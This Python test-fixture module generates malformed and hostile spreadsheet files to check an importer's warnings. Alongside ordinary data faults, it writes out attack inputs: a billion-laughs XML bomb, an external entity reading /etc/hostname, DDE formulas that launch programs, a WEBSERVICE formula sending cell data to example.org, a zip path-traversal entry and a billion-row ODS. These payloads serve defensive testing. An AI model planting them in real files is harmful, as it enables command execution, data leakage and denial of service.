"""XLSX, XLS and ODS workbooks, spoiled."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import date, timedelta
from itertools import zip_longest
from typing import Any

import made_workbooks as made
import openpyxl
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from spoiled_files.agency import CONTACTS_HEADER, MARK, Rows, clients, contacts
from spoiled_files.kinds import Change, Kind, above, changed, heading, more, wider

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><worksheet>&c;</worksheet>'
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]><sst>&a;</sst>'
KINDS_OF_CELLS: dict[str, Callable[[str], object]] = {
    "When": date.fromisoformat, "Minutes": int, "Hours": float, "Outcome": int,
}  # fmt: skip
Page = Any
Ready = Callable[[openpyxl.Workbook, Page], object]


def typed(rows: Rows) -> list[list[object]]:
    """Days as days and numbers as numbers; ids stay text."""
    return [[_typed(name, value) for name, value in zip_longest(CONTACTS_HEADER, row[:8])] for row in rows]


def _typed(name: str | None, value: str | None) -> object:
    try:
        return KINDS_OF_CELLS[str(name)](str(value))
    except (KeyError, ValueError):
        return value or None


def xlsx(*changes: Change, ready: Ready | None = None, epoch: Any = None) -> Callable[[], bytes]:
    """The contacts as a workbook, the rows changed before, the workbook after."""

    def write() -> bytes:
        rows = contacts()
        for change in changes:
            change(rows)
        workbook = openpyxl.Workbook()
        if epoch is not None:
            workbook.epoch = epoch
        page: Any = workbook.active
        page.title = "Contacts"
        for row in typed(rows):
            page.append(row)
        if ready is not None:
            ready(workbook, page)
        return made.saved(workbook)

    return write


def put(place: str, value: object, shown_as: str = "") -> Ready:
    def change(_: openpyxl.Workbook, page: Page) -> None:
        page[place] = value
        if shown_as:
            page[place].number_format = shown_as

    return change


def down(letter: str, change: Callable[[Any], object], shown_as: str = "") -> Ready:
    """Every cell of a column changed."""

    def changes(_: openpyxl.Workbook, page: Page) -> None:
        for row in range(2, 26):
            page[f"{letter}{row}"] = change(page[f"{letter}{row}"].value)
            if shown_as:
                page[f"{letter}{row}"].number_format = shown_as

    return changes


def merged(*ranges: str) -> Ready:
    return lambda _, page: [page.merge_cells(each) for each in ranges]


def another(title: str, state: str = "visible", rows: Callable[[], Rows] = clients) -> Ready:
    """A further worksheet, ahead of the one that is meant."""

    def change(workbook: openpyxl.Workbook, _: Page) -> None:
        page = workbook.create_sheet(title)
        page.sheet_state = state
        for row in rows():
            page.append(row)

    return change


def hidden(workbook: openpyxl.Workbook, page: Page) -> None:
    another("Cover", rows=lambda: [["Read me"], ["Contacts"]])(workbook, page)
    page.sheet_state = "hidden"


def part(name: str, change: Callable[[bytes], bytes | str], of: Callable[[], bytes]) -> Callable[[], bytes]:
    """A workbook with one part of its archive changed."""

    def write() -> bytes:
        content = of()
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            old = archive.read(name) if name in archive.namelist() else b""
        return made.repacked(content, {name: change(old)})

    return write


def formula(text: str, value: str = "<v>30</v>") -> Callable[[], bytes]:
    """The minutes in row 4 as a formula with a stored result, in a workbook whose results were worked out."""
    with_one = part(
        made.SHEET1,
        lambda old: old.replace(b'<c r="F4" t="n"><v>30</v></c>', f'<c r="F4"><f>{text}</f>{value}</c>'.encode()),
        xlsx(),
    )
    return part("xl/workbook.xml", lambda old: old.replace(b'fullCalcOnLoad="1"', b""), with_one)


def cut(share: float) -> Callable[[], bytes]:
    return lambda: (whole := xlsx()())[: int(len(whole) * share)]


def encrypted() -> bytes:
    """An archive whose entries say that they are encrypted."""
    content = bytearray(xlsx()())
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def odd(*last: str, before: str = "") -> bytes:
    """The contacts as ODS, with further rows at the end."""
    lines = [made.row(*(made.text(each) if each else made.blank() for each in line)) for line in contacts()]
    return made.ods(made.table(*lines, *last), before=before)


def old(
    changes: dict[tuple[int, int], object] | None = None, *, merged: tuple[int, int, int, int] | None = None
) -> bytes:
    """The contacts in the old format, all cells text."""
    cells: dict[tuple[int, int], object] = {
        (at, number): value for at, row in enumerate(contacts()) for number, value in enumerate(row)
    }
    return made.xls({**cells, **(changes or {})}, merged=merged)


BOOK, OLD, OPEN = "cases.xlsx", "cases.xls", "cases.ods"
MINUTES = "column Minutes"
CLIENT = "column Client ID (enrollment_id)"
EMBEDDED = "Another file is embedded in the workbook"
ENTITIES = "declares XML entities"
DAMAGED = "damaged or was not downloaded to its end"
PASSWORD = "protected by a password"
REACHES = "from outside the workbook, or starts a program there"
OUT_OF_ODS = 'table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;)"'

WORKBOOK_KINDS: dict[str, Kind] = {
    # worksheets
    "several worksheets, one named": Kind(name=BOOK, sheet="Contacts", made=xlsx(ready=another("Clients"))),
    "several worksheets, none named": Kind(
        name=BOOK, made=xlsx(ready=another("Clients")), said=["several sheets", "cases.xlsx#Contacts"]),
    "a worksheet that is not there": Kind(
        name=BOOK, sheet="Contakts", where=BOOK, made=xlsx(ready=another("Clients")),
        said=["no sheet Contakts", "Contacts, Clients"]),
    "two worksheets whose names differ in capitals": Kind(
        name=BOOK, sheet="Contacts",
        made=part(
            "xl/workbook.xml", lambda xml: xml.replace(b'"Clients"', b'"CONTACTS"'), xlsx(ready=another("Clients")))),
    "a hidden worksheet beside": Kind(name=BOOK, sheet="Contacts", made=xlsx(ready=another("Old", "hidden"))),
    "a very hidden worksheet beside, none named": Kind(
        name=BOOK, made=xlsx(ready=another("Old", "veryHidden")), said=["several sheets", "Contacts, Old"]),
    "the worksheet itself hidden": Kind(
        name=BOOK, sheet="Contacts", made=xlsx(ready=hidden), noted=["The worksheet Contacts is hidden"]),
    "no worksheet with cells": Kind(name=BOOK, made=lambda: made.book(()), said=["No worksheet of the workbook"]),
    "only the names": Kind(
        name=BOOK, made=lambda: made.book((contacts()[0],)), rows={"contacts": 0}, noted=["no row below"]),
    # cells
    "a formula with its result": Kind(name=BOOK, made=formula("10+20"), noted=["1 cells are formulas"]),
    "a formula without a result": Kind(
        name=BOOK, made=xlsx(ready=put("F4", "=10+20")), said=["no result in the file"], at=[f"row 4, {MINUTES}"]),
    "an error": Kind(name=BOOK, made=xlsx(ready=put("F4", "#REF!")), said=["shows an error"], at=[f"row 4, {MINUTES}"]),
    "a formula that starts a program": Kind(
        name=BOOK, made=formula("cmd|'/c calc'!A0"), said=[REACHES, "paste it as values"], at=[f"row 4, {MINUTES}"]),
    "a formula that reads another workbook": Kind(
        name=BOOK, made=formula("[1]Sheet1!A1"), said=[REACHES], at=[f"row 4, {MINUTES}"]),
    "a formula that asks the network": Kind(
        name=BOOK, made=formula('_xlfn.WEBSERVICE("http://example.org/"&amp;B3)'), said=[REACHES],
        at=[f"row 4, {MINUTES}"]),
    "cells merged": Kind(
        name=BOOK, made=xlsx(ready=merged("B2:B4")), said=["rows 2 to 4, B", "Unmerge them"], at=["row 2"]),
    "names merged": Kind(
        name=BOOK, made=xlsx(ready=merged("F1:G1")), said=["cells but no name"], at=["row 1, column number 7"]),
    "a merged title": Kind(
        name=BOOK, made=xlsx(above(["Contacts"], []), ready=merged("A1:H1")), said=["header_row = 3"], at=["row 1"]),
    "a merged title, declared": Kind(
        name=BOOK, made=xlsx(above(["Contacts"], []), ready=merged("A1:H1")), entry="header_row = 3"),
    "days from 1904": Kind(name=BOOK, made=xlsx(epoch=CALENDAR_MAC_1904)),
    "a number stored as text": Kind(name=BOOK, made=xlsx(ready=put("F4", "30"))),
    "a day stored as text": Kind(
        name=BOOK, made=xlsx(ready=put("C4", "2/7/2024")), said=["nobody can tell"], at=["row 4, column When (date)"]),
    "days without a format": Kind(
        name=BOOK, made=xlsx(ready=down("C", lambda day: (day - date(1899, 12, 30)).days, "General")),
        said=["serial number"], at=["rows 2 to 25, column When (date)"]),
    "a length of time": Kind(
        name=BOOK, made=xlsx(ready=put("F4", timedelta(minutes=30))), said=["clock time or duration"],
        at=["row 4, column Minutes (minutes)"]),
    "ids that are numbers": Kind(
        name=BOOK, made=xlsx(ready=down("B", int, "0000")), said=["leading zeros"], at=[f"rows 2 to 25, {CLIENT}"]),
    "true and false for codes": Kind(
        name=BOOK, made=xlsx(ready=down("E", bool)), said=["a code that the mapping does not cover"],
        at=["rows 2 to 25, column Outcome (outcome)"]),
    "ten thousand columns": Kind(
        name=BOOK, made=lambda: made.book(([f"c{index}" for index in range(10_000)], [1] * 10_000)),
        said=["10,000 columns", "sheet Sheet"]),
    "a name twice": Kind(
        name=BOOK, made=xlsx(heading("Hours", "Minutes")), said=["number 6 and 7 have the same name"], at=["row 1"]),
    "the names again further down": Kind(
        name=BOOK, made=xlsx(lambda rows: rows.insert(12, list(rows[0]))), said=["repeats the column names"],
        at=["row 13"]),
    "a column without a name": Kind(
        name=BOOK, made=xlsx(heading("Hours", "")), said=["cells but no name"], at=["row 1, column number 7"]),
    "empty columns to the right": Kind(name=BOOK, made=xlsx(wider(""))),
    "a row of totals": Kind(
        name=BOOK, made=xlsx(more(["Total", "", "", "", "", "780", "", MARK])), said=["must be filled"],
        at=[f"row 26, {CLIENT}"]),
    # archives
    "a workbook inside": Kind(
        name=BOOK, made=part("xl/embeddings/inner.xlsx", lambda _: xlsx()(), xlsx()), said=[EMBEDDED]),
    "an entity from a file": Kind(
        name=BOOK, made=part("xl/sharedStrings.xml", lambda _: OUTSIDE, xlsx()), said=[ENTITIES]),
    "a billion laughs": Kind(name=BOOK, made=part(made.SHEET1, lambda _: LAUGHS, xlsx()), said=[ENTITIES]),
    "a name that leads out": Kind(
        name=BOOK, made=part("../../outside.txt", lambda _: MARK, xlsx()), said=["names that lead out of it"]),
    "encrypted entries": Kind(name=BOOK, made=encrypted, said=[PASSWORD]),
    "encrypted by a spreadsheet program": Kind(
        name=BOOK, said=[PASSWORD, "save a copy without"],
        made=lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le")),
    "macros": Kind(
        name="cases.xlsm", made=part("xl/vbaProject.bin", lambda _: b"\xd0\xcf\x11\xe0 macros", xlsx()),
        noted=["holds macros. They were not run"]),
    "cut in half": Kind(name=BOOK, made=cut(0.5), said=[DAMAGED]),
    "cut near its end": Kind(name=BOOK, made=cut(0.99), said=[DAMAGED]),
    "CSV named XLSX": Kind(name=BOOK, made=changed("contacts"), said=["plain text, not a workbook", ".csv"]),
    "XLSX named CSV": Kind(made=xlsx(), said=["a spreadsheet or a zip archive, not CSV"]),
    "a web page named XLS": Kind(
        name=OLD, made=f"<html><table><tr><td>{MARK}".encode, said=["a web page, not a workbook"]),
    # XLS
    "XLS": Kind(name=OLD, made=old, noted=["formulas cannot be told from typed cells"]),
    "XLS with an error": Kind(
        name=OLD, made=lambda: old({(3, 5): None}), said=["shows an error"], at=[f"row 4, {MINUTES}"]),
    "XLS with cells merged": Kind(
        name=OLD, made=lambda: old(merged=(3, 4, 1, 1)), said=["rows 4 to 5, B"], at=["row 4"]),
    "XLS cut off": Kind(name=OLD, made=lambda: old()[:3000], said=[DAMAGED]),
    # ODS
    "ODS": Kind(name=OPEN, made=odd),
    "ODS named XLSX": Kind(name=BOOK, made=odd),
    "ODS with a billion rows": Kind(
        name=OPEN, made=lambda: odd(made.row(made.text("K999"), made.text(MARK), repeated=1_000_000_000)),
        said=["reaches over 8,000,000,200 cells"]),
    "ODS with an entity": Kind(name=OPEN, made=lambda: odd(before='<!DOCTYPE x [<!ENTITY a "b">]>'), said=[ENTITIES]),
    "ODS that starts a program": Kind(
        name=OPEN, made=lambda: odd(made.row(made.number(1, OUT_OF_ODS))), said=[REACHES],
        at=["row 26, column Contact ID"]),
    "ODS with a password": Kind(
        name=OPEN,
        made=lambda: made.repacked(odd(), {"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}),
        said=[PASSWORD]),
}  # fmt: skip
